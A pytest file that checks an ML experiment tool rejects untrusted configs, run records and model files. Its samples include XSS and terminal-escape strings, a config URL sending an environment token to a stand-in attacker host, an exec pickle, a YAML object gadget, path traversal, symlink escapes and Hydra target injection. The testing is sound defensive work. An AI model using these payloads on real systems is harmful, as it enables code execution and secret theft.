"""Records, studies, names and files made by a stranger: refused by name, none of their code runs, no secret leaves."""

import json
import re
from pathlib import Path

import pytest
from bad_inputs import SECRET, run_folder, video
from conftest import SMALL

from cosmos_exp.config.record import load_config
from cosmos_exp.text import redact

EVIL = "<script>alert(1)</script> \x1b[2J\x1b]0;owned\x07 ![x](http://attacker.invalid/x.png) [/red]"


@pytest.fixture(autouse=True)
def their_folder(tmp_path, monkeypatch):
    """The current directory is the stranger's, and a secret is in the environment. None of their code may run."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CORPUS_TOKEN", SECRET)
    mark = tmp_path / "CODE_WAS_RUN"
    (tmp_path / "friend").mkdir()
    (tmp_path / "friend" / "evil.py").write_text(f"open({str(mark)!r}, 'w')\n\n\ndef J(*args, **kw):\n    pass\n")
    yield
    assert not mark.exists(), "code of the record was run"
    assert not (tmp_path / "outputs").exists()


def study(text):
    file = Path("theirs/study.yaml")
    file.parent.mkdir()
    file.write_text("defaults: [config, _self_]\nname: study\n" + text)
    return file


@pytest.mark.parametrize(
    ("key", "value"), [("judge.name", "friend.evil.J"), ("model.builder", "friend.evil:J"), ("name", "../../x")]
)
def test_a_record_names_no_code_and_no_place_outside(key, value, tmp_path, answered):
    folder = run_folder(tmp_path / "theirs", {key: value})
    for words in (["run", f"run_dir={folder}"], ["rerun", folder, "--out", tmp_path / "new"]):
        answered(words, 2, f"{key}={value}", "config.yaml")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("hydra: {callbacks: {x: {_target_: friend.evil.J}}}", "hydra.callbacks"),
        ("hydra: {launcher: {_target_: friend.evil.J}}", "hydra.launcher._target_"),
        ("hydra: {job_logging: {version: 1, handlers: {x: {(): friend.evil.J}}}}", "hydra.job_logging"),
        ("hydra: {job: {env_set: {PYTHONPATH: '.'}}}", "hydra.job.env_set"),
        (
            "hydra: {mode: MULTIRUN, sweeper: {params: {hydra.launcher._target_: friend.evil.J}}}",
            "hydra.launcher._target_",
        ),
        ("sweep: {arms: {a: {hydra.launcher._target_: friend.evil.J}}}", "hydra.launcher._target_"),
    ],
)
def test_a_study_sets_nothing_of_hydra_that_can_run_code(text, said, answered):
    file = study(text)
    for words in (["sweep", file], ["run", "--config-dir", "theirs", "--config-name", "study"]):
        answered(words, 2, said, "refused")


def test_a_study_brings_no_launcher_and_no_package_of_its_own(tmp_path, answered):
    file = study("hydra: {searchpath: ['pkg://friend.evil']}\n")
    answered(["run", "--config-dir", "theirs", "--config-name", "study", "dry_run=true"], 0)
    (tmp_path / "theirs" / "hydra" / "launcher").mkdir(parents=True)
    (tmp_path / "theirs" / "hydra" / "launcher" / "mine.yaml").write_text("_target_: friend.evil.J\n")
    file.write_text("defaults: [config, _self_, {override hydra/launcher: mine}]\nname: study\n")
    answered(["sweep", file], 2, "hydra/launcher/mine")


def test_a_configuration_reads_no_environment_variable(tmp_path, answered):
    url = "http://attacker.invalid/v1/${oc.env:CORPUS_TOKEN}"
    for words in (["run", "judge=server", f"judge.url='{url}'"], ["sweep", study(f"judge: {{url: '{url}'}}")]):
        answered(words, 2, "judge.url", "oc.env", absent=(SECRET,))
    folder = run_folder(tmp_path / "record", {"judge.url": url})
    assert load_config(folder / "config.yaml").judge.url == url  # plain text
    (folder / "config.yaml").write_text("name: !!python/object/apply:os.getcwd []\n")
    answered(["rerun", folder], 2, "config.yaml", "not valid YAML")


@pytest.mark.parametrize(
    ("row", "said"),
    [
        ({"video": "../../../private.mp4"}, "scores.jsonl: row 1, video"),
        ({"video": "link.mp4"}, "leads out of"),
        ({"sample": "a\x1b[2J"}, "holds control characters"),
    ],
)
def test_names_in_a_record_stay_in_its_folder(row, said, tmp_path, answered):
    (tmp_path / "private.mp4").write_bytes(video())
    folder = run_folder(tmp_path / "runs" / "theirs", rows=[row])
    (folder / "videos" / "link.mp4").symlink_to(tmp_path / "private.mp4")
    answered(["report", tmp_path / "runs"], 2, said)
    assert not (tmp_path / "runs" / "page.html").exists()


def test_pickles_are_refused(tmp_path, answered):
    from cosmos_exp.training.checkpoints import Checkpoints

    evil = b"cbuiltins\nexec\n(V" + f"open({str(tmp_path / 'CODE_WAS_RUN')!r}, 'w')".encode() + b"\ntR."
    for name in ("transformer", "vae", "text_encoder", "tokenizer", "scheduler"):
        (tmp_path / "model" / name).mkdir(parents=True)
    (tmp_path / "model" / "transformer" / "diffusion_pytorch_model.bin").write_bytes(evil)
    words = ["run", f"model.source={tmp_path / 'model'}", f"run_dir={tmp_path / 'run'}"]
    answered(words, 2, "diffusion_pytorch_model.bin", "pickle", ".safetensors")
    state = tmp_path / "checkpoints" / "step_00000002" / "state.pt"
    state.parent.mkdir(parents=True)
    state.write_bytes(evil)
    with pytest.warns(UserWarning, match="cannot be read"):
        assert Checkpoints(tmp_path / "checkpoints", 2).load_newest() is None


def test_no_secret_is_written_by_a_run(tmp_path, answered, monkeypatch):
    """A password in judge.url, and a key in a variable, in none of the files of a run that fails: status, wandb, log."""
    monkeypatch.setenv("OPENAI_API_KEY", f"sk-{SECRET}")
    words = [*SMALL[:-1], "adapter=none", "tracking.mode=offline", "generation.num_steps=1"]
    words += [
        "measures.motion=true",
        "judge=server",
        f"judge.url=http://me:{SECRET}@127.0.0.1:9/v1",
        "judge.source=m",
        "judge.retries=0",
    ]
    words += [f"tags=[sk-{SECRET}]", f"run_dir={tmp_path / 'run'}"]
    said = ("judge.url=http://***@127.0.0.1:9/v1", "Check that the server runs there")
    answered(["run", *words], 1, *said, absent=(SECRET,))
    assert "track_survival" in (tmp_path / "run" / "scores.jsonl").read_text()  # earlier scores are kept
    files = [path for path in (tmp_path / "run").rglob("*") if path.is_file()]
    assert [path.name for path in files if SECRET.encode() in path.read_bytes()] == []
    assert any(path.suffix == ".wandb" for path in files), "wandb wrote nothing, so nothing was tested"


def test_reports_hold_no_tags_and_no_escapes(tmp_path, answered):
    """A caption with a script, a terminal escape, an image and a formula, and a folder named like one."""
    rows = [{"prompt": EVIL, "detail": {"answer": EVIL}}, {"sample": "=1+1", "prompt": "@SUM(A1)", "seed": 1}]
    folder, out = run_folder(tmp_path / "runs" / "<img src=x onerror=alert(1)>[red]", rows=rows), tmp_path / "runs"
    (folder / "status.json").write_text(json.dumps({"state": "failed", "stage": "train", "error": EVIL}))
    run_folder(out / "good", rows=rows)
    answered(["report", out], 1)  # one run has failed
    for name in ("report.md", "scores.csv", "page.html", "table.tex", "report.json"):
        assert "\x1b" not in (out / name).read_text(), name
    for name in ("report.md", "page.html"):
        assert not re.search(r"<script>alert|<img src=x", (out / name).read_text()), name
    assert "](http" not in (out / "report.md").read_text()  # a link of Markdown; HTML shows it as text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("http://me:pw@host/v1?token=abcdefgh", "http://***@host/v1?token=***"),
        ("key sk-proj-0123456789abcdef0123, hf_abcdefghijklmnopqrstuvwxyz", "key ***, ***"),
        ("Authorization: Bearer abcdef.123456", "Authorization: Bearer ***"),
        (f"value {SECRET}", "value ***"),
        ("git@github.com:a/b.git, tokens=512, a@b.c, 0.0001", "git@github.com:a/b.git, tokens=512, a@b.c, 0.0001"),
    ],
)
def test_what_looks_like_a_secret(text, shown):
    assert redact(text) == shown
